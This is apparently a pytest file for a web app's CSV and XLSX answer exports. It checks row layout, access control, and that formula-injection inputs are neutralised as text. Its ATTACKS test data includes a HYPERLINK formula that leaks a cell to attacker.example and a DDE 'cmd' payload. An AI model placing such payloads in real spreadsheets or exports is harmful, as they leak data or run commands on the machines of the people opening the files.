"""CSV and XLSX of a round's answers: one row per respondent and benchmark, never a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from openpyxl import load_workbook
from sqlalchemy import insert, select, update

from app.data.models import Answer, EvidenceItem, Membership, Response, User, answer_evidence
from app.extensions import db
from app.reports.exports import COLUMNS, safe_cell
from tests.integration.report_round import BOARD_NAME, Respondent

ATTACKS = {
    "outcomes.2": '=HYPERLINK("http://attacker.example/?d="&A1,"Click for the audit")',
    "outcomes.3": "+SUM(1+1)*cmd|' /C calc'!A0",
    "outcomes.4": "-2+3",
    "outcomes.5": "@SUM(1+1)",
    "outcomes.6": "\t=1+1",
}


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark, so spreadsheet programs read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_csv_has_one_row_per_respondent_and_benchmark(client, login, known_round):
    framework = known_round.built.framework
    login(known_round.manager)
    response = client.get(f"/rounds/{known_round.round.id}/answers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"] and ".csv" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = read_csv(response.data)
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 4 * len(framework.benchmarks)
    respondents = [row["Respondent"] for row in rows[:: len(framework.benchmarks)]]
    assert respondents == ["Rhian Jenkins", "Bethan Lloyd", "Eleri Hughes", "Gareth Morgan"]  # by agency name, then name
    police = {row["Benchmark id"]: row for row in rows if row["Respondent"] == "Gareth Morgan"}
    assert police["governance.3"] | {"Updated at": ""} == {
        "Agency": "Police",
        "Respondent": "Gareth Morgan",
        "Domain": "Establishing effective governance",
        "Benchmark id": "governance.3",
        "Benchmark": "Attendance and seniority of members",
        "Rating": "Inadequate",
        "Evidence": "Audit report, March (governance.3, police)",
        "Register items cited": "",
        "No evidence yet": "No",
        "Response status": "Submitted",
        "Updated at": "",
    }
    assert datetime.strptime(police["governance.3"]["Updated at"], "%Y-%m-%d %H:%M")
    assert police["strategy.2"]["Evidence"] == "" and police["strategy.2"]["Rating"] == "Outstanding"
    education = [row for row in rows if row["Respondent"] == "Rhian Jenkins"]
    assert {row["Response status"] for row in education} == {"In progress"}


def test_formulas_in_evidence_are_written_as_text(client, login, build_round):
    built = build_round([Respondent("police", name="Gareth Morgan", evidence=ATTACKS)])
    db.session.execute(update(Answer).where(Answer.benchmark_id == "outcomes.7").values(rating=None, evidence="", no_evidence_yet=True))
    db.session.commit()
    login(built.manager)
    rows = {row["Benchmark id"]: row for row in read_csv(client.get(f"/rounds/{built.round.id}/answers.csv").data)}
    for benchmark_id, text in ATTACKS.items():
        assert rows[benchmark_id]["Evidence"] == "'" + text
    assert rows["outcomes.7"]["Rating"] == "" and rows["outcomes.7"]["No evidence yet"] == "Yes"
    assert rows["outcomes.8"]["Evidence"] == "Audit report, March (outcomes.8, police)"

    workbook = load_workbook(io.BytesIO(client.get(f"/rounds/{built.round.id}/answers.xlsx").data))
    sheet = workbook["Answers"]
    evidence_column = COLUMNS.index("Evidence") + 1
    cells = {sheet.cell(row, COLUMNS.index("Benchmark id") + 1).value: sheet.cell(row, evidence_column) for row in range(2, sheet.max_row + 1)}
    for benchmark_id, text in ATTACKS.items():
        assert cells[benchmark_id].value == "'" + text
        assert cells[benchmark_id].data_type == "s"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_xlsx_has_the_same_rows_with_real_times(client, login, known_round):
    login(known_round.manager)
    response = client.get(f"/rounds/{known_round.round.id}/answers.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.properties.title == f"{BOARD_NAME}: {known_round.round.title}"
    sheet = workbook["Answers"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    assert len(rows) - 1 == 4 * len(known_round.built.framework.benchmarks)
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["Agency"] == "Education" and first["Respondent"] == "Rhian Jenkins" and first["Benchmark id"] == "outcomes.1"
    assert first["Rating"] == "Requires improvement" and first["Response status"] == "In progress"
    assert isinstance(first["Updated at"], datetime)
    assert sheet.freeze_panes == "A2"


def test_only_the_business_manager_can_export_answers(app, login, known_round, make_user, make_board, add_member):
    round_id = known_round.round.id
    stranger = make_user("Other Manager")
    add_member(stranger, make_board(), "business_manager", "local_authority")
    for person, expected in ((known_round.inspector, 403), (known_round.built.members[0], 403), (stranger, 404)):
        client = login(person, test_client=app.test_client())
        for suffix in ("csv", "xlsx"):
            assert client.get(f"/rounds/{round_id}/answers.{suffix}").status_code == expected


def test_safe_cell_prefixes_only_what_would_start_a_formula():
    assert [safe_cell(text) for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == ["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert [safe_cell(text) for text in ("", "Good", "1 = 1", "Audit, -20%")] == ["", "Good", "1 = 1", "Audit, -20%"]


def test_register_items_an_answer_cites_are_in_their_own_column(client, login, known_round):
    """An answer evidenced only by the register must not look unevidenced in the spreadsheet."""
    answer = db.session.scalar(
        select(Answer).join(Response, Response.id == Answer.response_id)
        .join(Membership, Membership.id == Response.membership_id)
        .join(User, User.id == Membership.user_id)
        .where(Response.round_id == known_round.round.id, User.name == "Gareth Morgan", Answer.benchmark_id == "strategy.2")
    )
    older = EvidenceItem(
        board_id=known_round.round.board_id, title="=Neglect audit", source_agency="police", evidence_date=date(2026, 1, 5), impact="Seen sooner"
    )
    newer = EvidenceItem(
        board_id=known_round.round.board_id, title="Case review", source_agency="police", evidence_date=date(2026, 4, 2), impact="Plans improved"
    )
    db.session.add_all([older, newer])
    db.session.flush()
    db.session.execute(insert(answer_evidence), [{"answer_id": answer.id, "evidence_item_id": item.id} for item in (older, newer)])
    db.session.commit()
    login(known_round.manager)
    rows = read_csv(client.get(f"/rounds/{known_round.round.id}/answers.csv").data)
    police = {row["Benchmark id"]: row for row in rows if row["Respondent"] == "Gareth Morgan"}
    assert police["strategy.2"]["Evidence"] == ""
    assert police["strategy.2"]["Register items cited"] == "Case review; =Neglect audit"
    assert police["governance.3"]["Register items cited"] == ""
    sheet = load_workbook(io.BytesIO(client.get(f"/rounds/{known_round.round.id}/answers.xlsx").data)).active
    column = COLUMNS.index("Register items cited") + 1
    cells = [sheet.cell(row, column).value for row in range(2, sheet.max_row + 1)]
    assert "Case review; =Neglect audit" in cells
